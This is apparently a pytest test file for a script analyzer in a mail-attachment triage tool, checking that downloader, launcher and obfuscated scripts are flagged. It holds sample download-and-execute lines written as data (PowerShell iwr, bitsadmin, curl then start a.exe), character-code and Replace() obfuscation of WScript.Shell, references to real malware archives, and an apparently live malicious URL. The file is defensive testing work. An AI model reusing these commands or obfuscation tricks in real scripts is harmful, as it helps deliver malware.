"""ScriptAnalyzer: what scripts do (download, launch), how they hide it, and the patterns file's own examples."""

from __future__ import annotations

import base64

import pytest
from samplekit import carriers

from tests.analyzers._carriers import Ctx, by_id, one, view_of
from tests.conftest import ROOT, make_message
from triage.analyzers.script import ScriptAnalyzer, ScriptScanner, decode_text, load_patterns
from triage.config import load_config
from triage.engine import Engine
from triage.errors import ConfigError


@pytest.fixture(scope="module")
def analyzer() -> ScriptAnalyzer:
    plugin = ScriptAnalyzer()
    plugin.setup(load_config())
    return plugin


def run(analyzer: ScriptAnalyzer, data: bytes, name: str | None, **kwargs: object) -> tuple[dict, Ctx]:  # type: ignore[type-arg]
    ctx = Ctx()
    findings = list(analyzer.analyze(view_of(data, name, **kwargs), ctx))  # type: ignore[arg-type]
    return by_id(findings), ctx


# -- the rules file ----------------------------------------------------------------------------------------------
PATTERNS = load_patterns(ROOT / "rules" / "lists" / "script_patterns.toml")


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda p: p.id)
def test_every_pattern_fires_on_its_examples_and_not_on_its_counter_examples(pattern) -> None:  # type: ignore[no-untyped-def]
    assert pattern.examples, f"{pattern.id} has no examples"
    for example in pattern.examples:
        assert pattern.regex.search(example), f"{pattern.id} misses {example!r}"
        lowered = example.lower()
        assert not pattern.needs or any(n in lowered for n in pattern.needs), (
            f"{pattern.id} needs filter drops {example!r}"
        )
    for counter in pattern.counter:
        assert not pattern.regex.search(counter), f"{pattern.id} fires on {counter!r}"


def test_bad_patterns_file_fails_at_startup(tmp_path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "p.toml"
    bad.write_text('[[pattern]]\nid = "x"\nkind = "nonsense"\nlabel = "x"\nregex = "x"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="kind"):
        load_patterns(bad)
    bad.write_text('[[pattern]]\nid = "x"\nkind = "download"\nlabel = "x"\nregex = "(("\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="bad regex"):
        load_patterns(bad)


# -- built in code ------------------------------------------------------------------------------------------------
def test_hta_downloader_sample(analyzer: ScriptAnalyzer) -> None:
    found, ctx = run(analyzer, carriers.hta_downloader(), "invoice.hta")
    downloader = found["SCRIPT_DOWNLOADER"]
    assert downloader.strength == 1.0
    assert "MSXML2.XMLHTTP" in downloader.evidence[0]
    assert any("WScript.Shell" in e for e in downloader.evidence)
    assert ("urls", "http://update.example.invalid/update.txt") in ctx.iocs
    assert ("domains", "update.example.invalid") in ctx.iocs


def test_js_dropper_sample_is_decoded(analyzer: ScriptAnalyzer) -> None:
    found, ctx = run(analyzer, carriers.js_dropper(), "readme.js")
    assert found["SCRIPT_DOWNLOADER"].strength == 1.0
    assert any("PowerShell -EncodedCommand" in e for e in found["SCRIPT_DOWNLOADER"].evidence)
    obfuscated = found["SCRIPT_OBFUSCATED"]
    assert obfuscated.strength == 1.0
    assert "PowerShell -EncodedCommand" in obfuscated.evidence
    assert "character codes" in obfuscated.evidence
    assert ("urls", "http://update.example.invalid/") in ctx.iocs


def test_plain_admin_script_is_quiet(analyzer: ScriptAnalyzer) -> None:
    script = b"@echo off\r\nrem nightly copy\r\nxcopy /s /y C:\\data D:\\backup\r\necho done\r\n"
    found, _ = run(analyzer, script, "backup.bat")
    assert found == {}


def test_launcher_without_download(analyzer: ScriptAnalyzer) -> None:
    found, _ = run(analyzer, b'CreateObject("WScript.Shell").Run "mshta vbscript:Close(1)", 0\r\n', "a.vbs")
    assert set(found) == {"SCRIPT_LAUNCHER"}
    assert found["SCRIPT_LAUNCHER"].strength == 1.0


def test_batch_set_variables_are_expanded(analyzer: ScriptAnalyzer) -> None:
    lines = [
        "@echo off",
        'set "s=set "',
        '%s%"a=power"',
        '%s%"b=shell -w hidden -c "',
        '%s%"c=iwr http://x.example.invalid/p"',
    ]
    lines += [f'%s%"v{i}=x"' for i in range(60)] + ["%a%%b%%c%" + "%v1%" * 20]
    found, _ = run(analyzer, "\r\n".join(lines).encode(), "run.cmd")
    assert "SCRIPT_DOWNLOADER" in found
    assert any("batch variables expanded" in e for e in found["SCRIPT_DOWNLOADER"].evidence)
    assert any(e.startswith("batch variable expansion") for e in found["SCRIPT_OBFUSCATED"].evidence)


def test_vbs_chr_arithmetic_and_replace_junk(analyzer: ScriptAnalyzer) -> None:
    target = "WScript.Shell"
    assigns = "\r\n".join(f"a{i} = {ord(c) + 300} - &H12C" for i, c in enumerate(target))
    chain = " & ".join(f"ChrW(a{i})" for i in range(len(target)))
    junk = "Q9Q".join("bitsadmin /transfer j http://x.example.invalid/a.exe")
    script = f'{assigns}\r\nExecute CreateObject({chain})\r\nc = Replace("{junk}", "Q9Q", "")\r\n'.encode()
    found, _ = run(analyzer, script, "a.vbs")
    assert "SCRIPT_DOWNLOADER" in found
    evidence = found["SCRIPT_OBFUSCATED"].evidence
    assert "character codes" in evidence
    assert any(e.startswith("Replace() junk tokens") for e in evidence)


def test_base64_encoded_pe_is_reported(analyzer: ScriptAnalyzer) -> None:
    blob = base64.b64encode(carriers.DOS_STUB * 4).decode()
    found, _ = run(analyzer, f"$b = [Convert]::FromBase64String('{blob}')\r\n".encode(), "a.ps1")
    assert any("base64-encoded Windows executable" in e for e in found["SCRIPT_OBFUSCATED"].evidence)


def test_text_file_without_script_tag_is_ignored(analyzer: ScriptAnalyzer) -> None:
    found, _ = run(analyzer, b"powershell -enc AAAA and WScript.Shell in a mail body\r\n", "notes.txt")
    assert found == {}


def test_carrier_marked_text_is_analysed(analyzer: ScriptAnalyzer) -> None:
    found, _ = run(
        analyzer,
        b"@echo off\r\ncurl http://x.example.invalid/a -o a.exe\r\nstart a.exe\r\n",
        None,
        meta={"script": "script-bat"},
    )
    assert found["SCRIPT_DOWNLOADER"].strength == 1.0


def test_script_encoder_is_flagged(analyzer: ScriptAnalyzer) -> None:
    found, _ = run(analyzer, b"#@~^XQAAAA==\\ko$K6,o!C~NW&x^LDDZ4DO'XQAAAA==^#~@", "a.vbe")
    assert found["SCRIPT_OBFUSCATED"].strength == 1.0


def test_hostile_inputs_do_not_crash(analyzer: ScriptAnalyzer) -> None:
    for data in (b"\xff\xfe" + "x".encode("utf-16-le") * 10, b'"' * 200_000, b"Chr(" * 50_000, b"A" * 300_000):
        run(analyzer, data, "a.js")
    scanner = ScriptScanner(PATTERNS, max_decoded=1024)
    nested = "powershell -enc " + base64.b64encode(("powershell -enc " + "QUFB" * 200).encode("utf-16-le")).decode()
    scan = scanner.scan(nested * 50, lambda: None)
    assert sum(len(layer) for layer in scan.layers) < 10_000


def test_decode_text_utf16() -> None:
    assert decode_text("Set x = 1".encode("utf-16-le") * 10, 1000).startswith("Set x = 1")
    assert decode_text(b"\xff\xfe" + "abc".encode("utf-16-le"), 10) == "abc"


# -- the real droppers (REAL MALWARE, read in memory only) ---------------------------------------------------------
@pytest.mark.parametrize(
    ("archive", "expected"),
    [
        ("01_powershell__1__stage1.7z", {"SCRIPT_DOWNLOADER"}),
        ("01_powershell__2__stage1.7z", {"SCRIPT_DOWNLOADER", "SCRIPT_OBFUSCATED"}),
        ("01_powershell__4__stage1.7z", {"SCRIPT_OBFUSCATED"}),
        ("02_vbs__stage1.7z", {"SCRIPT_DOWNLOADER", "SCRIPT_OBFUSCATED"}),
        ("08_HTA__1__stage1.7z", {"SCRIPT_DOWNLOADER", "SCRIPT_OBFUSCATED"}),
        ("08_HTA__2__stage1.7z", {"SCRIPT_LAUNCHER", "SCRIPT_OBFUSCATED"}),
        ("10_bat__stage1.7z", {"SCRIPT_LAUNCHER", "SCRIPT_OBFUSCATED"}),
        ("11_js__stage1.7z", {"SCRIPT_DOWNLOADER", "SCRIPT_OBFUSCATED"}),
        ("13_shellcode__stage1.7z", {"SCRIPT_LAUNCHER", "SCRIPT_OBFUSCATED"}),
    ],
)
def test_real_droppers(analyzer: ScriptAnalyzer, archive: str, expected: set[str]) -> None:
    name, data = one(archive)
    found, _ = run(analyzer, data, name)
    assert set(found) == expected


def test_real_hta_downloader_url_reaches_the_report() -> None:
    name, data = one("01_powershell__1__stage1.7z")
    report = Engine().scan(make_message(attachments=[(name, data, "application/octet-stream")]))
    assert "https://github-scanner.com/l6E.exe" in report.iocs.urls
    assert {"SCRIPT_DOWNLOADER", "ATTACHMENT_EXECUTABLE"} <= set(report.finding_ids())
    assert not [n for n in report.notes if n.kind.value == "crashed"]
